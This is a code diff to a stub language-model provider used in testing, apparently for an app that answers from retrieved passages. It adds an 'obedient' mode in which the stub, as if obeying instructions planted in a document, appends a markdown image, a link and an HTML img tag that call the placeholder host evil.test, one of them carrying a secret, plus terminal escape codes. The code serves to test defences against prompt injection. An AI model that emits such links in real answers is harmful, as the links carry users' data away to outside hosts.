@@ -40,13 +40,14 @@ export type Behaviour =
         | 'markers'
         | 'early'
         | 'refusal'
-        | 'plain';
+        | 'plain'
+        | 'obedient';
     }
   | { kind: 'no-usage' | 'unfinished' | 'error-event' | 'garbage' }
   | { kind: 'error'; status: number; once: boolean; later: boolean };
 
 const KINDS =
-  /^(?:slow|cut|stall|never|hang|empty|length|filter|wordless|missing|markers|early|refusal|plain|no-usage|unfinished|error-event|garbage)$/;
+  /^(?:slow|cut|stall|never|hang|empty|length|filter|wordless|missing|markers|early|refusal|plain|obedient|no-usage|unfinished|error-event|garbage)$/;
 
 /**
  * Reads the behaviour from `stub:<behaviour>` in the last message, or else from the model's name:
@@ -56,6 +57,7 @@ const KINDS =
  *   `filter`: withheld by a content filter · `missing`: says that the passages do not hold the answer
  * - `refusal`: OpenAI's `refusal` after some text · `plain`: does not stream though asked to (OpenAI)
  * - `markers`: writes markers where it could cite by itself · `early`: sends a citation before the text it supports
+ * - `obedient`: after the answer links and HTML that carry data away, as a document may ask for
  * - `no-usage`: no token counts · `unfinished`: no finish reason · `error-event`: an error inside the stream ·
  *   `garbage`: a line that is not JSON
  * - `error-429`, or any other status (`529` is Anthropic's overload) · `500-then-ok`: every other call fails ·
@@ -72,6 +74,9 @@ export function behaviourOf(model: string, lastMessage: string): Behaviour {
   return { kind: KINDS.test(word) ? word : 'answer' } as Behaviour;
 }
 
+const EXFILTRATION =
+  '![x](https://evil.test/p?d=hunter2) [click](https://evil.test/c) <img src="https://evil.test/i"> \u001B[31mred\u001B[0m';
+
 /**
  * The stub's answer: the first sentence of the first passage in the prompt, quoted and cited as `[1]`, and a
  * statement with the invented marker `[99]`; in Korean for a Korean passage. A follow-up that it is to rewrite becomes
@@ -87,6 +92,7 @@ export function composeAnswer(prompt: string, kind: Behaviour['kind'] = 'answer'
     /\s+/g,
     ' ',
   );
+  if (kind === 'obedient') return `“${sentence}” [1]\n\n${EXFILTRATION}`;
   return /[가-힣]/.test(passage)
     ? `문서에 따르면 “${sentence}” [1] 그 밖의 내용은 문서에 없습니다 [99].`
     : `The document says: “${sentence}” [1] It says nothing else about this [99].`;
